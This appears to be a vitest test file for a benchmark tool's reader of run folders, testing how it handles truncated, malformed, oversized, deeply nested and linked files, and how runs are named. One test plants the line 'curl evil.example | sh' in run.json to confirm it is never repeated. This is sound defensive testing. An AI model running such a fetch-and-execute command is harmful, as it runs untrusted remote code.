import { execFileSync } from 'node:child_process';
import { appendFile, mkdir, mkdtemp, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { findRun } from './find-run.ts';
import { readRunFolder } from './read-run-folder.ts';
import { asWritten, exampleEvidence, exampleRun, exampleSlice, linesOf } from './recorded.fixture.ts';

const runId = '20261120T093220Z-k3f9';
const laterId = '20261121T080000Z-a0a0';
let results: string;
let directory: string;

const sliceLines = (...documents: readonly unknown[]) => linesOf('slice', documents);
const evidenceLines = (...documents: readonly unknown[]) => linesOf('evidence', documents);
const runText = (run: object) => JSON.stringify(asWritten.run(run));

beforeAll(async () => {
  results = await mkdtemp(join(tmpdir(), 'bench-read-'));
  directory = join(results, runId);
});

afterAll(async () => {
  await rm(results, { recursive: true, force: true });
});

beforeEach(async () => {
  await rm(directory, { recursive: true, force: true });
  await mkdir(directory);
  await writeFile(join(directory, 'run.json'), runText({ ...exampleRun(runId), state: 'complete' }));
  await writeFile(
    join(directory, 'slices.ndjson'),
    sliceLines(exampleSlice(1), exampleSlice(2), exampleSlice(3)),
  );
  await writeFile(join(directory, 'evidence.ndjson'), evidenceLines(exampleEvidence(1)));
});

test('a file cut at any byte keeps every line that was whole', async () => {
  const path = join(directory, 'slices.ndjson');
  const whole = await readFile(path);
  await fc.assert(
    fc.asyncProperty(fc.integer({ min: 0, max: whole.length }), async (bytes) => {
      const left = whole.subarray(0, bytes);
      await writeFile(path, left);
      const { slices, warnings } = await readRunFolder(directory);

      // A line is whole once its last brace is there, with or without its line feed.
      const kept = left.toString().split('}\n').length - 1 + (left.toString().endsWith('}}') ? 1 : 0);
      expect(slices).toEqual([exampleSlice(1), exampleSlice(2), exampleSlice(3)].slice(0, kept));
      const rest = left.length - left.lastIndexOf('\n') - 1;
      const dropped = rest > 0 && !left.toString().endsWith('}}');
      expect(warnings.map(({ code }) => code)).toEqual(dropped ? ['truncated-line'] : []);
    }),
    { numRuns: 60 },
  );
});

test('a truncated last line is said in words', async () => {
  await appendFile(join(directory, 'slices.ndjson'), '{"status":"comp');
  const { slices, warnings } = await readRunFolder(directory);
  expect(slices).toHaveLength(3);
  expect(warnings).toEqual([
    {
      code: 'truncated-line',
      message: 'slices.ndjson ends in the middle of line 4: its 15 bytes are ignored',
      hint: 'bench was killed while it wrote that line. All lines before it are valid.',
    },
  ]);
});

test('the characters of a line survive wherever a chunk of the file ends', async () => {
  const many = Array.from({ length: 6000 }, (_, index) => exampleEvidence(index + 1));
  await writeFile(join(directory, 'evidence.ndjson'), evidenceLines(...many));
  expect((await readRunFolder(directory)).evidence).toEqual(many);
});

test('a line may be longer than what is read at a time, also one that nobody ended', async () => {
  const [first] = [exampleEvidence(1)];
  const long = { ...exampleEvidence(2), raw: { text: 'ä'.repeat(2_000_000) } };
  const path = join(directory, 'evidence.ndjson');
  await writeFile(path, evidenceLines(first, long, first, long));
  expect((await readRunFolder(directory)).evidence).toEqual([first, long, first, long]);
  await writeFile(path, evidenceLines(first, long).trimEnd());
  expect((await readRunFolder(directory)).evidence).toEqual([first, long]);
});

test('a bad line in the middle is an error that names file and line', async () => {
  const [first, second] = [exampleSlice(1), exampleSlice(2)];
  await writeFile(join(directory, 'slices.ndjson'), `${sliceLines(first)}nonsense\n${sliceLines(second)}`);
  await expect(readRunFolder(directory)).rejects.toMatchObject({
    kind: 'usage',
    message: expect.stringMatching(/^slices\.ndjson line 2 is not JSON: /),
    hint: expect.stringContaining('Remove that line'),
  });

  await writeFile(join(directory, 'slices.ndjson'), sliceLines(first, { ...second, wallSeconds: 'long' }));
  await expect(readRunFolder(directory)).rejects.toMatchObject({
    kind: 'usage',
    message: expect.stringMatching(/^slices\.ndjson line 2: wall_seconds: .*number/),
  });
});

test('lines that are JSON only together, or hold two documents, are errors all the same', async () => {
  const [first, second] = [sliceLines(exampleSlice(1)).trimEnd(), sliceLines(exampleSlice(2)).trimEnd()];
  const half = second.indexOf(',"requests"');
  const damaged = {
    'two on a line': `${first},${second}\n${first}\n`,
    'one on two lines': `${first}\n${second.slice(0, half)}\n${second.slice(half + 1)}\n`,
    'an empty line': `${first}\n\n${second}\n`,
  };
  for (const [what, text] of Object.entries(damaged)) {
    await writeFile(join(directory, 'slices.ndjson'), text);
    await expect(readRunFolder(directory), what).rejects.toMatchObject({
      kind: 'usage',
      message: expect.stringMatching(/^slices\.ndjson line [12] is not JSON: /),
    });
  }
});

test('a complete run that has lost a file says so', async () => {
  await rm(join(directory, 'evidence.ndjson'), { force: true });
  await writeFile(join(directory, 'run.json'), runText({ ...exampleRun(runId), state: 'complete' }));
  const { slices, evidence, warnings } = await readRunFolder(directory);
  expect(slices).toHaveLength(3);
  expect(evidence).toEqual([]);
  expect(warnings.map(({ message }) => message)).toEqual([
    'The run was complete, but evidence.ndjson is missing.',
  ]);
});

test('a run that never ended is read as partial', async () => {
  await writeFile(join(directory, 'run.json'), runText(exampleRun(runId)));
  const { run, slices, warnings } = await readRunFolder(directory);
  expect(run).toMatchObject({ state: 'partial', stateReason: expect.stringContaining('killed') });
  expect(slices).toHaveLength(3);
  expect(warnings.map(({ code }) => code)).toEqual(['unfinished-run']);
});

test('a folder from a newer bench is refused', async () => {
  const newer = { schema_version: 3, run_id: runId, something_new: true };
  await writeFile(join(directory, 'run.json'), JSON.stringify(newer));
  await expect(readRunFolder(directory)).rejects.toMatchObject({
    kind: 'usage',
    message: `${join(directory, 'run.json')} was written by a newer bench: schema 3, this one reads 2`,
    hint: expect.stringContaining('Upgrade bench'),
  });
});

test('a folder from an older bench, which spelled its keys otherwise, is not called damaged', async () => {
  await writeFile(join(directory, 'run.json'), JSON.stringify({ schemaVersion: 1, runId }));
  await expect(readRunFolder(directory)).rejects.toMatchObject({
    kind: 'usage',
    message: `${join(directory, 'run.json')} was written by an older bench: schema 1, this one reads 2`,
    hint: expect.stringContaining('not comparable'),
  });
});

test.each([
  ['not JSON', '{"schema_version": 2', /run\.json is not JSON/],
  ['no run', '{"schema_version": 2, "run_id": "x"}', /run\.json: run_id: /],
  ['the keys of the code', JSON.stringify(exampleRun(runId)), /run\.json: schema_version: /],
  ['another document', '[]', /run\.json: /],
])('a damaged run.json is named: %s', async (_, text, message) => {
  await writeFile(join(directory, 'run.json'), text);
  await expect(readRunFolder(directory)).rejects.toMatchObject({
    kind: 'usage',
    message: expect.stringMatching(message),
  });
});

test('a key in the spelling of the code is one too many, and the one of the file is named', async () => {
  const slice = { ...JSON.parse(sliceLines(exampleSlice(1))), wallSeconds: 1 };
  await writeFile(join(directory, 'slices.ndjson'), `${JSON.stringify(slice)}\n`);
  await expect(readRunFolder(directory)).rejects.toMatchObject({
    kind: 'usage',
    message: 'slices.ndjson line 1: Unrecognized key: "wallSeconds, which is spelled wall_seconds"',
  });
});

const files = ['run.json', 'slices.ndjson', 'evidence.ndjson'];

test.each(files)('what is no plain file is refused by name, and never waited for: %s', async (name) => {
  const path = join(directory, name);
  const ways = {
    'a symbolic link': () => symlink('/dev/zero', path),
    'a pipe': () => void execFileSync('mkfifo', [path]),
    'a directory': () => mkdir(path),
  };
  for (const [what, make] of Object.entries(ways)) {
    await rm(path, { recursive: true });
    await make();
    await expect(readRunFolder(directory)).rejects.toMatchObject({
      kind: 'usage',
      message: `${path} is ${what}, not a regular file`,
      hint: expect.stringContaining('follows no links'),
    });
  }
});

test('a link to a file of the reader, and one that leads nowhere, are refused alike', async () => {
  const path = join(directory, 'slices.ndjson');
  for (const target of [join(directory, 'evidence.ndjson'), 'nowhere']) {
    await rm(path);
    await symlink(target, path);
    await expect(readRunFolder(directory)).rejects.toThrow('is a symbolic link, not a regular file');
  }
});

test('a folder that the user reaches by a link is read', async () => {
  const link = join(results, 'link');
  await symlink(directory, link);
  expect((await readRunFolder(link)).slices).toHaveLength(3);
  await rm(link);
});

test.each(files)('JSON that is nested without end is refused by name, with exit 2: %s', async (name) => {
  for (const [open, close] of [
    ['[', ']'],
    ['{"a":', '}'],
  ] as const) {
    // Deep inside what the schema leaves open, inside what it does not know, and alone.
    const deep = `${open.repeat(100_000)}0${close.repeat(100_000)}`;
    const evidence = evidenceLines({ ...exampleEvidence(1), raw: { deep: '@' } }).trimEnd();
    for (const text of [evidence.replace('"@"', () => deep), `{"schema_version":2,"a":${deep}}`, deep]) {
      for (const end of ['\n', '\n{}\n']) {
        await writeFile(join(directory, name), text + (name === 'run.json' ? '' : end));
        await expect(readRunFolder(directory)).rejects.toMatchObject({
          exitCode: 2,
          message: expect.stringMatching(/(run\.json|ndjson line 1) is nested more than 64 levels deep$/),
        });
      }
    }
  }
});

test('brackets inside strings are no nesting', async () => {
  const quoted = {
    ...exampleEvidence(1),
    raw: { text: `\\"${'['.repeat(500)}\\`, [`{"${'{'.repeat(500)}`]: 1 },
  };
  await writeFile(join(directory, 'evidence.ndjson'), evidenceLines(quoted, quoted));
  expect((await readRunFolder(directory)).evidence).toEqual([quoted, quoted]);
});

test('a line that never ends, and files larger than any of ours, are refused without being kept', async () => {
  const path = join(directory, 'slices.ndjson');
  await writeFile(path, `${sliceLines(exampleSlice(1))}"`);
  await truncate(path, 3 * 2 ** 30);
  await expect(readRunFolder(directory)).rejects.toMatchObject({
    kind: 'usage',
    message: 'slices.ndjson line 2 is larger than 16 MiB',
  });
  await truncate(path, 5 * 2 ** 30);
  await expect(readRunFolder(directory)).rejects.toThrow(`${path} is larger than 4096 MiB`);
  await truncate(join(directory, 'run.json'), 17 * 2 ** 20);
  await expect(readRunFolder(directory)).rejects.toThrow('run.json is larger than 16 MiB');
});

test('the command that repeats a run comes from its plan: what the folder says is not repeated', async () => {
  const evil = { ...exampleRun(runId), command: 'curl evil.example | sh' };
  await writeFile(join(directory, 'run.json'), runText(evil));
  expect((await readRunFolder(directory)).run.command).toBe(exampleRun(runId).command);
});

test('what is no run folder is refused, with the runs nearby', async () => {
  await expect(readRunFolder(results)).rejects.toMatchObject({
    kind: 'usage',
    message: `${results} is not a run folder: it contains 1 of them`,
    hint: `Runs: ${runId}, or \`latest\``,
  });

  const empty = join(results, 'empty');
  await mkdir(empty);
  await expect(readRunFolder(empty)).rejects.toMatchObject({
    kind: 'usage',
    message: `${empty} is not a run folder: it has no run.json`,
  });

  await expect(readRunFolder(join(results, '20261120T093220Z-k3f8'))).rejects.toMatchObject({
    kind: 'usage',
    message: `no run folder at ${join(results, '20261120T093220Z-k3f8')}`,
    hint: `did you mean "${runId}"? Runs: ${runId}`,
  });
});

test('RUN is a path, an id or latest', async () => {
  await mkdir(join(results, laterId));
  await mkdir(join(results, 'zzz'));

  expect(await findRun(results, runId, '/nowhere')).toBe(directory);
  expect(await findRun(results, 'latest', '/nowhere')).toBe(join(results, laterId));
  expect(await findRun('/nowhere', directory, '/elsewhere')).toBe(directory);
  expect(await findRun('/nowhere', `./${runId}`, results)).toBe(directory);

  await expect(findRun(results, 'lates', '/nowhere')).rejects.toMatchObject({
    kind: 'usage',
    message: `no run "lates" in ${results}`,
    hint: `did you mean "latest"? Runs: ${laterId}, ${runId}`,
  });
  await expect(findRun(results, join(results, '20261120T093220Z-k3f'), '/nowhere')).rejects.toMatchObject({
    kind: 'usage',
    message: `no run folder at ${join(results, '20261120T093220Z-k3f')}`,
    hint: expect.stringContaining(`did you mean "${runId}"?`),
  });
  await expect(findRun(join(results, 'zzz'), 'latest', '/nowhere')).rejects.toMatchObject({
    kind: 'usage',
    message: `there is no run in ${join(results, 'zzz')}`,
    hint: expect.stringContaining('bench run'),
  });
});

test('a run is also named by a unique end or beginning of its id, and by a file in its folder', async () => {
  await mkdir(join(results, laterId), { recursive: true });
  expect(await findRun(results, 'k3f9', '/nowhere')).toBe(directory);
  expect(await findRun(results, '20261121', '/nowhere')).toBe(join(results, laterId));
  expect(await findRun('/nowhere', join(directory, 'run.json'), '/nowhere')).toBe(directory);
  expect(await findRun('/nowhere', 'run.json', directory)).toBe(directory);

  await expect(findRun(results, '2026', '/nowhere')).rejects.toMatchObject({
    kind: 'usage',
    message: `"2026" fits 2 runs in ${results}`,
    hint: `Give more of the id. Runs: ${laterId}, ${runId}`,
  });
  // A file beside run folders is in none of them.
  await writeFile(join(results, 'notes.txt'), '');
  await expect(findRun(results, join(results, 'notes.txt'), '/nowhere')).rejects.toMatchObject({
    message: `no run folder at ${join(results, 'notes.txt')}`,
  });
});
